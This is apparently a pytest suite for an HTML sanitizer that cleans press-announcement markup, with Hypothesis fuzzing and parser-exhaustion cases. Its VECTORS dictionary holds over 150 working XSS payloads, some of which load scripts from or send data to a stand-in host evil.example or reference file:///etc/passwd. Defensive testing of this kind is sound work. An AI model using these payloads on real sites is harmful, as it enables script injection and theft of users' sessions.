"""Whatever HTML an announcement holds, what is shown of it runs nothing, tracks nobody and leads to the web only.

Two parsers other than the cleaner's look at it: html5lib, by the HTML standard, and libxml2, which is not.
"""

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import html5lib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from lxml.html import document_fromstring

from store.markup import ATTRIBUTES, ELEMENTS, shown

BASE = "https://www.example.org/press/1.html"
POLICY = Path(__file__).parents[1] / "docs" / "html.md"
ADDRESSES = {
    "href": re.compile(r"https?://[^/?#\\\s]+|mailto:", re.IGNORECASE),
    "src": re.compile(r"https?://[^/?#\\\s]+", re.IGNORECASE),
}

VECTORS = {
    "scripts": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script/x>alert(1)</script\t>",
        "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1)//<</script>",
        "<script>alert(1)",
        '<script src="data:text/javascript,alert(1)"></script>',
        "<script type=module>import('//evil.example/x.js')</script>",
        "<script a='>' src=//evil.example/x.js></script>",
        "<script><!--<script>alert(1)</script>--></script>",
        "</script><script>alert(1)</script>",
        "<ſcript>alert(1)</ſcript>",
        "<script>/*</p>*/alert(1)</script>",
    ],
    "handlers": [
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror\n=\nalert(1)>",
        "<img src=x OnErRoR='alert(1)'>",
        "<img/src=x/onerror=alert(1)>",
        '<img src="x"onerror="alert(1)">',
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<img src='https://a.example/' onload=alert(1)>",
        "<p onclick=alert(1)>a</p>",
        "<p onmouseover='alert(1)' style=position:fixed;inset:0>a</p>",
        "<a href=https://a.example/ onfocus=alert(1) autofocus>a</a>",
        "<div onpointerrawupdate=alert(1)>a</div>",
        "<body onload=alert(1)>a</body>",
        "<html onwheel=alert(1)>a</html>",
        "<details open ontoggle=alert(1)>a</details>",
        "<marquee onstart=alert(1)>a</marquee>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<td onanimationstart=alert(1)>a</td>",
        "<table><tr><td onclick=alert(1)>a</td></tr></table>",
        "<p/onclick=alert(1)//>a</p>",
        "<x onclick=alert(1)>a</x>",
        "<b onbeforescriptexecute=alert(1)>a</b>",
        "<img src=x alt='`onerror=alert(1)//`'>",
        "<p \x0conclick=alert(1)>a</p>",
        "<p =onclick=alert(1)>a</p>",
    ],
    "addresses that run": [
        '<a href="javascript:alert(1)">a</a>',
        '<a href="JaVaScRiPt:alert(1)">a</a>',
        '<a href=" javascript:alert(1)">a</a>',
        '<a href="\x01javascript:alert(1)">a</a>',
        '<a href="java\tscript:alert(1)">a</a>',
        '<a href="java\nscript:alert(1)">a</a>',
        '<a href="java\r\nscript:alert(1)">a</a>',
        '<a href="java\0script:alert(1)">a</a>',
        '<a href="javascript\t:alert(1)">a</a>',
        '<a href="java&#9;script:alert(1)">a</a>',
        '<a href="java&#x0A;script:alert(1)">a</a>',
        '<a href="java&Tab;script&colon;alert(1)">a</a>',
        '<a href="javascript&#58;alert(1)">a</a>',
        '<a href="javascript&#0000058alert(1)">a</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">a</a>',
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>',
        '<a href="&#14;&#1;javascript:alert(1)">a</a>',
        '<a href="javascript://www.example.org/%0aalert(1)">a</a>',
        '<a href="javascript:\u2028alert(1)">a</a>',
        '<a href="\u00a0javascript:alert(1)">a</a>',
        '<a href="\ufeffjavascript:alert(1)">a</a>',
        '<a href="data:text/html,<script>alert(1)</script>">a</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>',
        '<a href="DATA:text/html;charset=utf-7,+ADw-script+AD4-alert(1)">a</a>',
        '<a href="vbscript:msgbox(1)">a</a>',
        '<a href="vb\tscript:msgbox(1)">a</a>',
        '<a href="livescript:alert(1)">a</a>',
        '<a href="mocha:alert(1)">a</a>',
        '<a href="feed:javascript:alert(1)">a</a>',
        '<a href="view-source:javascript:alert(1)">a</a>',
        '<a href="jar:https://evil.example/x.jar!/x.html">a</a>',
        '<a href="file:///etc/passwd">a</a>',
        '<a href="blob:https://evil.example/1">a</a>',
        '<a href="filesystem:https://evil.example/1">a</a>',
        '<a href="intent://evil.example/#Intent;scheme=http;end">a</a>',
        '<a href="https:javascript:alert(1)">a</a>',
        '<a href="https:\\\\evil.example\\">a</a>',
        '<a href="ht\ntps://evil.example/">a</a>',
        '<a href="//evil.example/x">a</a>',
        '<a href="\\\\evil.example\\x">a</a>',
        '<a href="https://[::1">a</a>',
        '<a href="https://">a</a>',
        '<a href="javascript:alert(1)" href="https://a.example/">a</a>',
        '<a xlink:href="javascript:alert(1)">a</a>',
        '<img src="javascript:alert(1)">',
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        '<img src="mailto:a@example.org" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
        '<img data-src="javascript:alert(1)">',
        '<img data-src="java\nscript:alert(1)" src="https://a.example/">',
        '<img data-original="data:text/html,x">',
        '<img srcset="javascript:alert(1) 1x, data:,x 2x">',
        '<img data-srcset="  ,,, vbscript:x 1x">',
        '<img data-src="&quot; onerror=&quot;alert(1)">',
        '<img data-src="https://a.example/&quot;><script>alert(1)</script>">',
        "<img data-src='https://a.example/\"onerror=alert(1)//'>",
        '<q cite="javascript:alert(1)">a</q><blockquote cite="javascript:alert(1)">a</blockquote>',
        '<del cite="javascript:alert(1)">a</del><ins cite="data:,x">b</ins>',
    ],
    "svg and math": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) />",
        "<svg><a xlink:href='javascript:alert(1)'><text y=20>a</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>a</text></a></svg>",
        "<svg><set attributeName=onmouseover to=alert(1) />",
        "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x' /></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<svg><foreignObject><math><mi><p><style><!--</style><img src=x onerror=alert(1)>",
        "<svg><desc><p onclick=alert(1)>a</desc></svg>",
        "<svg><title><a href='javascript:alert(1)'>a</title></svg>",
        "<svg></p><style><a title='</style><img src=x onerror=alert(1)>'>",
        "<svg><image href=x onerror=alert(1) /></svg>",
        "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
        "<math href=javascript:alert(1)>a</math>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>a</maction></math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<math><mi><!--<mi title='--><img src=x onerror=alert(1)>'>",
    ],
    "readings that differ": [
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<style><p title='</style><img src=x onerror=alert(1)>'>",
        "<title><p title='</title><img src=x onerror=alert(1)>'>",
        "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
        "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
        "<plaintext><p title='</plaintext><img src=x onerror=alert(1)>'>",
        "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
        "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
        "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<template><p title='</template><img src=x onerror=alert(1)>'>",
        "<select><template><p title='</select><img src=x onerror=alert(1)>'>",
        "<select><style></select><img src=x onerror=alert(1)></style>",
        "<table><td><style></td></table><img src=x onerror=alert(1)></style>",
        "<table><a href=javascript:alert(1)><tr><td>a</table>",
        "<table><form><input name=a><tr><td></form><p onclick=alert(1)>a</table>",
        "<p><table><p><a href=https://a.example/><table><a href=javascript:alert(1)>a",
        "<a href=https://a.example/><table><tr><td><a href=javascript:alert(1)>a</a></td></tr></table></a>",
        "<b><p></b><i onclick=alert(1)></p></i>",
        "<pre>\n\n\n<b>a</b></pre>",
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "<p>a<isindex action=javascript:alert(1)>b",
        "<image src=x onerror=alert(1)>",
        "<p title='&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>a</p>",
        "<img alt='&lt;script&gt;alert(1)&lt;/script&gt;' src=a.png>",
        "<a title='&quot;&gt;&lt;img src=x onerror=alert(1)&gt;' href=/>a</a>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "<option><style></option></select><img src=x onerror=alert(1)></style>",
        "<button><p></button><p onclick=alert(1)>a",
    ],
    "comments and sections": [
        "<!--><img src=x onerror=alert(1)>-->",
        "<!---><img src=x onerror=alert(1)>-->",
        "<!--a--!><img src=x onerror=alert(1)>-->",
        "<!-- --!><script>alert(1)</script> -->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
        "<?xml-stylesheet href='javascript:alert(1)'?><p>a",
        "<?php echo '<script>alert(1)</script>' ?>",
        "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]><p>&x;",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
        "</ <img src=x onerror=alert(1)>",
        "</p <script>alert(1)</script>>",
        "<%<img src=x onerror=alert(1)>%>",
        "]]><script>alert(1)</script>",
        "<!-- unclosed <p onclick=alert(1)>",
    ],
    "pages in the text": [
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<meta http-equiv=Set-Cookie content='a=b'>",
        "<meta charset=utf-7>",
        "<base href='https://evil.example/'><a href=x>a</a>",
        "<base href='javascript:alert(1)//'><a href=x>a</a>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example/x.html>",
        "<link rel=prefetch href=//evil.example/x>",
        "<object data=javascript:alert(1)></object>",
        "<object type=text/x-scriptlet data=//evil.example/x.html></object>",
        "<object><param name=movie value=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<embed src=//evil.example/x.swf allowscriptaccess=always>",
        "<applet code=x.class archive=//evil.example/x.jar></applet>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'>",
        "<portal src=https://evil.example/></portal>",
        "<fencedframe src=https://evil.example/></fencedframe>",
        "<bgsound src=javascript:alert(1)>",
        "<layer src=//evil.example/x.js></layer>",
        "<dialog open>a</dialog>",
        "<template shadowrootmode=open><script>alert(1)</script></template>",
        "<x-evil is=evil><slot>a</slot></x-evil>",
    ],
    "forms": [
        "<form action=javascript:alert(1)><input type=submit></form>",
        "<form action=https://evil.example/><input name=password>a</form>",
        "<form id=f></form><button form=f formaction=javascript:alert(1)>a</button>",
        "<input type=image src=x onerror=alert(1) formaction=javascript:alert(1)>",
        "<input onfocus=alert(1) autofocus>",
        "<textarea onfocus=alert(1) autofocus></textarea>",
        "<select onchange=alert(1)><option>a</select>",
        "<keygen onfocus=alert(1) autofocus>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<label for=x><input id=x type=checkbox></label>",
    ],
    "styles": [
        "<p style='background:url(javascript:alert(1))'>a</p>",
        "<p style='width:expression(alert(1))'>a</p>",
        "<p style='-moz-binding:url(//evil.example/x.xml#x)'>a</p>",
        "<p style='behavior:url(x.htc)'>a</p>",
        "<p style='\\62 ackground:u\\72l(//evil.example/)'>a</p>",
        "<style>@import '//evil.example/x.css';</style>",
        "<style>a[href^=x]{background:url(//evil.example/?x)}</style>",
        "<style>@\\69mport url(//evil.example/)",
        "<img style='xss:expr/**/ession(alert(1))' src=a.png>",
        "<img src=a.png style='background:url(//evil.example/beacon)'>",
        "<table background=javascript:alert(1)><td background=//evil.example/x.gif>a</table>",
        "<p class=modal id=login>a</p>",
        "<font color=expression(alert(1)) face=x>a</font>",
    ],
    "trackers": [
        "<img src=//evil.example/x.gif width=1 height=1>",
        "<img src=//evil.example/x.gif width='1px'>",
        "<img src=//evil.example/x.gif height=0>",
        "<img src=//evil.example/x.gif height=' 01.0 px'>",
        "<img src=//evil.example/x.gif hidden>",
        "<img src=//evil.example/x.gif style='display:none'>",
        "<img src=//evil.example/x.gif style='width : 1px !important'>",
        "<img src=//evil.example/x.gif style='color:red;visibility:hidden'>",
        "<img data-src=//evil.example/x.gif width=1>",
        "<img src=https://pixel.wp.com/g.gif?v=ext>",
        "<img src=https://stats.wp.com/x.gif>",
        "<img src='https://www.facebook.com/tr?id=1&noscript=1'>",
        "<img data-src=//www.google-analytics.com/collect?v=1>",
        "<img srcset='//ad.doubleclick.net/x 1x'>",
        "<img src=https://a:b@ad.doubleclick.net:443/x>",
        "<img src=HTTPS://PX.ADS.LINKEDIN.COM/collect>",
        "<img src=https://stats.example.org/matomo.php?idsite=1>",
        "<img src=https://www.example.org/a/piwik.php>",
        "<noscript><img src=https://mc.yandex.ru/watch/1></noscript>",
    ],
    "other ways to ask for something": [
        "<a href=https://a.example/ ping=https://evil.example/>a</a>",
        "<img src=a.png srcset='https://evil.example/x 1x'>",
        "<picture><source srcset=https://evil.example/x><img src=a.png></picture>",
        "<video poster=https://evil.example/x></video>",
        "<audio src=https://evil.example/x></audio>",
        "<track src=https://evil.example/x>",
        "<img src=a.png longdesc=javascript:alert(1) usemap=#m><map name=m><area href=javascript:alert(1)></map>",
        "<img src=a.png attributionsrc=https://evil.example/ crossorigin referrerpolicy=unsafe-url>",
        "<a href=https://a.example/ target=_blank rel=opener download>a</a>",
        "<body background=https://evil.example/x>a",
        "<input type=image src=https://evil.example/x>",
        "<menuitem icon=https://evil.example/x>",
        "<th><img src=a.png imagesrcset='https://evil.example/x'>",
    ],
    "what is left open": [
        "<img src='https://evil.example/?",
        '<img src="https://evil.example/?a=',
        "<a href='https://evil.example/?",
        "<p title='",
        "<p",
        "<",
        "</",
        "<!",
        "<?",
        "&",
        "&#",
        "&#x110000;&#xd800;&#0;&#128;",
        "<textarea>",
        "<plaintext>",
        "<style>",
        "<button>",
        "<svg><p>",
        "<p><b><i><u><s>" * 20,
    ],
    "names that take another's place": [
        "<img name=getElementById src=a.png>",
        "<a id=location href=https://a.example/>a</a><a id=location name=href href=//evil.example/>b</a>",
        "<form name=body><input name=firstChild></form>",
        "<p id=__proto__ name=constructor>a</p>",
        "<a id=x href=#y>a</a><p name=y>b</p>",
        "<object name=currentScript></object>",
        "<p slot=x part=y itemprop=z data-bind=w>a</p>",
        "<p contenteditable tabindex=1 accesskey=x is=y nonce=z>a</p>",
    ],
    "letters": [
        "\u202e<a href='javascript:alert(1)'>a</a>\u202c",
        "<\u202escript>alert(1)</script>",
        "<scr\0ipt>alert(1)</scr\0ipt>",
        "<\0script>alert(1)</script>",
        "<img src=x one\0rror=alert(1)>",
        "<img src=x \0onerror=alert(1)>",
        "<p\0onclick=alert(1)>a</p>",
        "<img src=x\u3000onerror=alert(1)>",
        "＜script＞alert(1)＜/script＞",
        "<a href='ｊavascript:alert(1)'>a</a>",
        "<a href='javascript：alert(1)'>a</a>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\ufeff<script>alert(1)</script>",
        "<\0s\0c\0r\0i\0p\0t\0>\0a\0l\0e\0r\0t\0(\x001\0)\0<\0/\0s\0c\0r\0i\0p\0t\0>",
        "\u3c00\u7300\u6300<img src=x onerror=alert(1)>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)",
        "¼script¾alert(1)¼/script¾",
        "\ud83c<script\udf00>alert(1)</script>",
        "<a href='\ud800javascript:alert(1)'>a</a>",
        "<img data-src='a\x01&#1;.png'>",
        "\x1b]8;;javascript:alert(1)\x07a",
    ],
}


def strangers(markup: str, base: str = BASE) -> list[str]:
    """Return what of *markup*, as html5lib and then libxml2 read it, the policy does not know."""
    tree = by_the_standard(markup)
    again = by_the_standard(html5lib.serialize(tree, omit_optional_tags=False, quote_attr_values="always"))
    libxml = document_fromstring(f"<body>{markup}").find("body")
    after_libxml = by_the_standard(etree.tostring(libxml, encoding="unicode", method="html"))
    return [stranger for each in (tree, again, libxml, after_libxml) for stranger in unknown(each)]


def by_the_standard(markup: str) -> Any:
    return html5lib.parseFragment(markup, treebuilder="etree", namespaceHTMLElements=False)


def unknown(tree: Any) -> Iterator[str]:
    for element in list(tree.iter())[1:]:
        if element.tag not in ELEMENTS:
            yield str(element.tag)
            continue
        known = ATTRIBUTES["*"] | ATTRIBUTES.get(element.tag, set()) | ({"rel"} if element.tag == "a" else set())
        for name, value in element.attrib.items():
            leads_astray = name in ADDRESSES and not ADDRESSES[name].match(value)
            if name not in known or leads_astray or (name == "rel" and value != "noopener"):
                yield f"{element.tag} {name}={value}"


@pytest.mark.parametrize("vector", [vector for group in VECTORS.values() for vector in group])
def test_a_known_attack_is_shown_without_its_teeth(vector: str) -> None:
    for markup in (vector, f"<table><tr><td><p>a{vector}b</table>"):
        clean = shown(markup, BASE)
        assert strangers(clean) == []
        assert shown(clean, BASE) == clean


def test_there_are_more_than_a_hundred_and_fifty_attacks_and_none_twice() -> None:
    vectors = [vector for group in VECTORS.values() for vector in group]
    assert len(set(vectors)) == len(vectors) > 150


@pytest.mark.parametrize("vector", VECTORS["trackers"])
def test_a_picture_that_only_counts_readers_is_not_shown(vector: str) -> None:
    assert shown(vector, BASE) == ""


@pytest.mark.parametrize("stranger", ["<script>", '<p onclick="x">', "<!--a-->", '<a href="b">', '<a rel="opener">'])
def test_the_examiners_see_what_the_policy_does_not_know(stranger: str) -> None:
    assert strangers(stranger)
    assert not strangers("<b>&lt;script&gt;</b>")


@pytest.mark.parametrize(
    "html",
    [
        "<h2>採択結果</h2><p>環境省は、<b>10件</b>を採択しました。</p>",
        '<ul><li>a</li><li>b<ol start="3" type="a"><li value="4">c</li></ol></li></ul><dl><dt>a</dt><dd>b</dd></dl>',
        '<table><caption>a</caption><thead><tr><th scope="col" colspan="2">b</th></tr></thead></table>',
        '<table><tbody><tr><td rowspan="2">c</td><td>d</td></tr></tbody></table>',
        '<p><del>8件</del><ins>10件</ins> CO<sub>2</sub> m<sup>2</sup><br><b lang="ja" title="a">公募</b></p>',
        '<a href="https://a.example/b c?d=e&amp;f#g" hreflang="ja" title="h" rel="noopener">i</a>',
        '<a href="mailto:a@example.org" rel="noopener">b</a>',
        '<figure><img src="https://a.example/b.png" alt="c"><figcaption>d</figcaption></figure>',
        "<pre>\n\n  a\n    b\n</pre><blockquote>c</blockquote>",
        '<pre lang="ja">\n\na</pre>',
        "a &lt;b&gt; &amp;amp; c",
        "",
    ],
)
def test_what_a_text_is_made_of_is_shown_as_it_is(html: str) -> None:
    assert shown(html, BASE) == html


@pytest.mark.parametrize(
    ("written", "address"),
    [
        ("2.html", "https://www.example.org/press/2.html"),
        ("/2.html", "https://www.example.org/2.html"),
        ("//a.example/", "https://a.example/"),
        ("\\\\a.example\\b", "https://a.example/b"),
        ("?a=b", "https://www.example.org/press/1.html?a=b"),
        ("#a", "https://www.example.org/press/1.html#a"),
        (" \nhttps://a.example/b\n ", "https://a.example/b"),
        ("HTTPS://a.example/", "HTTPS://a.example/"),
        ("https://a.example/公募.pdf", "https://a.example/公募.pdf"),
    ],
)
def test_addresses_are_shown_as_the_page_of_the_announcement_means_them(written: str, address: str) -> None:
    link = f'<a href="{address}" rel="noopener">a</a>'
    assert shown(f'<base href="https://evil.example/"><a href="{written}">a</a>', BASE) == link


@pytest.mark.parametrize(
    "base", ["", "press", "https://[", "javascript:a", "mailto:a@b", "ftp://a/", "data:,", "\ud800"]
)
def test_without_an_address_of_the_announcement_only_absolute_ones_are_shown(base: str) -> None:
    html = '<a href="a">b</a><img src="/c"><a href="https://a.example/">d</a>'
    assert shown(html, base) == '<a rel="noopener">b</a><a href="https://a.example/" rel="noopener">d</a>'


@pytest.mark.parametrize(
    "attributes",
    [
        'src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="a.png"',
        'src="blank.gif" data-original="/press/a.png"',
        'data-lazy-src="//www.example.org/press/a.png" srcset="b.png 2x"',
        'srcset="a.png 1x, b.png 2x"',
        'src="" data-srcset=" a.png, b.png 2x" width="300" style="width:10px"',
    ],
)
def test_a_lazy_picture_is_shown_from_its_true_address(attributes: str) -> None:
    picture = dict(re.findall(r'(\w+)="(.*?)"', shown(f"<img {attributes} alt='a'>", BASE)))
    assert picture == {"src": "https://www.example.org/press/a.png", "alt": "a"}


@pytest.mark.parametrize("text", ["a\ud800b", "a\0b"])
def test_what_no_database_takes_is_not_shown(text: str) -> None:
    assert shown(f"<p>{text}</p>", BASE) == "<p>ab</p>"


def test_two_thousand_levels_are_shown_with_their_text() -> None:
    assert re.sub(r"</?div>", "", shown("<div>" * 2000 + "a" + "</div>" * 2000 + "b", BASE)) == "ab"


def test_a_long_text_is_shown_whole() -> None:
    html = '<ul><li>a</li><li><a href="https://a.example/" rel="noopener">b</a></li></ul>\n<p>c<br>d</p>\n' * 2000
    assert shown(html, BASE) == html.strip()
    assert shown(html.replace("</li>", "").replace("</p>", ""), BASE).count("<li>") == 4000


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "<p>" * 30_000,
        "<x>" * 50_000 + "</y>" * 50_000,
        "<p " + " ".join(f"a{number}" for number in range(50_000)) + ">",
        "<p>" + "".join(f"<b title={number}>" for number in range(10_000)) + "<p>a" * 10_000,
        "<a href=x><table><tr><td>" * 10_000,
        "<img src=x width='" + " " * 500_000 + "a'>",
        "<a title=' href=" + "'> href=" * 50_000,
        "<b '\"" * 50_000,
        "<!--" * 100_000,
        "a" * 5_000_000,
        "<p>a</p>" * 600_000,
    ],
    ids=lambda html: html[:20],
)
def test_a_text_made_to_keep_a_parser_busy_does_not(html: str) -> None:
    clean = shown(html, BASE)
    assert len(clean) <= 1_000_000
    assert shown(clean, BASE) == clean


def test_the_page_on_the_policy_names_the_elements_and_attributes_of_the_code() -> None:
    elements, attributes = re.findall(r"(?:^\|.*\n)+", POLICY.read_text(encoding="utf-8"), re.MULTILINE)[:2]
    assert sorted(re.findall(r"`(\w+)`", elements)) == sorted(ELEMENTS)
    rows = [row.split("|")[1:3] for row in attributes.replace("all of them", "`*`").splitlines()[2:]]
    told = {on.strip(" `"): set(re.findall(r"`(\w+)`", names)) - {"rel", "noopener"} for on, names in rows}
    assert told == ATTRIBUTES


PIECES = st.one_of(
    st.text(max_size=8),
    st.sampled_from([piece for group in VECTORS.values() for piece in group]),
    st.sampled_from(
        ["<!--", "-->", "--!>", "<![CDATA[", "]]>", "<?", "&", "<", ">", '"', "'", "`", "\n", "\0", "\ud800"]
    ),
)
STRANGE_TAGS = """
    script style noscript template title textarea xmp plaintext iframe noembed noframes listing select option button
    form input svg math mi mtext mglyph annotation-xml foreignObject desc object applet marquee frameset html head body
    base meta link colgroup col section font nobr big center image x
"""
STRANGE_ATTRIBUTES = """
    onclick onerror style srcset data-src data-srcset data-original width height id name class ping background
    formaction srcdoc xlink:href encoding
"""
TAGS = st.sampled_from([*sorted(ELEMENTS), *STRANGE_TAGS.split()])
NAMES = st.sampled_from([*sorted(set().union(*ATTRIBUTES.values())), *STRANGE_ATTRIBUTES.split()])
SCHEMES = st.sampled_from(
    [
        *("", "//", "\\\\", "https://", "http://a.example", "HTTPS:", "ht\ntps://", "https://[", "mailto:", "data:"),
        *("javascript:", "java\tscript:", " \x01javascript:", "javascript&colon;", "&#106;avascript:", "vbscript:"),
    ]
)
VALUES = st.one_of(
    st.builds(str.__add__, SCHEMES, st.text(max_size=8)),
    st.sampled_from(["1", "display:none", "a.png 1x, b.png 2x", "text/html", "</style>", "--><script>"]),
)
QUOTES = st.sampled_from(['"', "'", ""])
ASSIGNMENTS = st.builds("{}={}{}{}".format, NAMES, QUOTES, VALUES, QUOTES)
STARTS = st.builds(
    lambda tag, given, end: f"<{' '.join((tag, *given))}{end}",
    TAGS,
    st.lists(ASSIGNMENTS, max_size=3),
    st.sampled_from([">", ">", ">", "/>", ""]),
)
ENDS = st.builds("</{}>".format, TAGS)
LONG = "<!---->" * 501  # behind so many of them lxml is asked as well
DOCUMENTS = st.builds(
    "{}{}".format,
    st.sampled_from(["", "", "", LONG]),
    st.builds("".join, st.lists(st.one_of(STARTS, STARTS, ENDS, PIECES), max_size=30)),
)
BASES = st.sampled_from([BASE, BASE, "", "https://[", "javascript:alert(1)", "ftp://a.example/", "\ud800"])


def examine(document: str, base: str) -> None:
    clean = shown(document, base)
    assert strangers(clean) == []
    assert shown(clean, base) == clean


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(DOCUMENTS, BASES)
def test_no_document_shows_what_the_policy_does_not_know(document: str, base: str) -> None:
    examine(document, base)


@pytest.mark.slow
@pytest.mark.timeout(1800)
@settings(max_examples=10_000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(DOCUMENTS, BASES)
def test_none_of_ten_thousand_documents_shows_what_the_policy_does_not_know(document: str, base: str) -> None:
    examine(document, base)
